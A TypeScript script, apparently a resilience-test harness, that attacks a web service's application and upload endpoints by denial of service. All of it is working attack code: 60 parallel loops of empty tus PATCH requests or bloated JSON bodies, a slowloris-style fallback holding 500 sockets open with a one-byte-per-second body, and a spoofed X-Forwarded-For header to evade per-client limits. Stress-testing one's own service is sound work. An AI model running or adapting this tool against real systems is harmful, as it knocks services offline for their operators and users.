// A program that asks one thing 60 times at once, over and over, until it is told to end.
import { Agent, request } from 'node:http'
import { connect } from 'node:net'

const AT_ONCE = 60
const SLOW_BODIES = 500
const CLIENT = '203.0.113.1'

const target = process.env['TARGET'] ?? ''
const uploadUrl = process.env['UPLOAD_URL'] ?? ''
const size = process.env['SIZE'] ?? ''
const agent = new Agent({ keepAlive: true, maxSockets: AT_ONCE })

const swamp = Buffer.from(
  JSON.stringify({
    id: '01890000-0000-7000-8000-000000000000',
    mainRenters: [{ documents: Array.from({ length: 340_000 }, () => ({})) }],
  }),
)

const attacks: Record<string, () => Promise<void>> = {
  /** An empty piece at the end of a stored document of ten megabytes. */
  empty_pieces: () =>
    ask('PATCH', uploadUrl, Buffer.alloc(0), {
      'Tus-Resumable': '1.0.0',
      'Content-Type': 'application/offset+octet-stream',
      'Upload-Offset': size,
    }),
  /** A megabyte of empty objects as an application. */
  swamps: () => ask('POST', `${target}/api/applications`, swamp, { 'Content-Type': 'application/json' }),
}

const kind = process.env['KIND'] ?? ''
const attack = attacks[kind]
if (attack) for (let each = 0; each < AT_ONCE; each += 1) void repeat(attack)
else for (let each = 0; each < SLOW_BODIES; each += 1) dripBody()
console.log(`The attack ${kind} is running at ${target}`)
process.once('SIGTERM', () => process.exit(0))
process.once('disconnect', () => process.exit(0))

async function repeat(work: () => Promise<void>): Promise<void> {
  for (;;) await work().catch(() => {})
}

const ask = (method: string, url: string, body: Buffer, headers: Record<string, string>) =>
  new Promise<void>((resolve, reject) => {
    const sent = request(
      url,
      { agent, method, headers: { ...headers, 'X-Forwarded-For': CLIENT, 'Content-Length': body.length } },
      (response) => response.resume().once('end', resolve).once('error', reject),
    )
    sent.once('error', reject)
    sent.end(body)
  })

/** A byte a second of a body that never ends; closed, it begins again. */
function dripBody(): void {
  const { hostname, port } = new URL(target)
  const socket = connect(Number(port), hostname)
  socket.write(
    `POST /api/applications HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${CLIENT}\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n`,
  )
  const dripping = setInterval(() => socket.write(' '), 1000)
  socket.resume().once('error', () => {})
  socket.once('close', () => {
    clearInterval(dripping)
    setTimeout(dripBody, 1000)
  })
}
